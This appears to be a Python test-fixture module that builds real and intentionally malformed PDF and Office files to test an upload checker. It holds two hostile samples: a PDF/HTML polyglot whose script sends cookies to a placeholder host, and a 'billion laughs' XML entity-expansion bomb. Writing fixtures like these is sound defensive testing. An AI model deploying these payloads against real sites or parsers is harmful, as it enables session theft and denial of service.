"""Real and deliberately broken files for upload tests, built in memory.

Uploads are checked by opening them (:mod:`cchc.lib.files`), so tests that
upload a PDF or an Office file need genuine ones; the broken variants are
the hostile files those checks must refuse.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence

from openpyxl import Workbook
from pypdf import PdfWriter


def pdf_bytes(*, password: str = "") -> bytes:
    """A genuine one-page PDF, optionally encrypted with ``password``."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if password:
        writer.encrypt(user_password=password, owner_password=password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def corrupt_pdf_bytes() -> bytes:
    """Starts like a PDF, but the rest is noise."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 40


def pdf_html_polyglot_bytes() -> bytes:
    """A valid PDF that a browser sniffing the content would also run as a web page."""
    html = b"<html><body><script>document.location='https://example.invalid/?c='+document.cookie</script></body></html>"
    return pdf_bytes().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + html + b"\n", 1)


def xlsx_bytes(rows: Sequence[Sequence[object]] | None = None) -> bytes:
    workbook = Workbook()
    for row in rows or [["Mã", "Tên"], ["1", "Một"]]:
        workbook.worksheets[0].append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    from docx import Document

    document = Document()
    document.add_paragraph("Báo cáo kết quả thực hiện.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def replace_part(data: bytes, part: str, content: bytes) -> bytes:
    """The Office file ``data`` with ``part`` replaced by ``content`` (to break its XML)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            target.writestr(entry.filename, content if entry.filename == part else source.read(entry.filename))
    return buffer.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
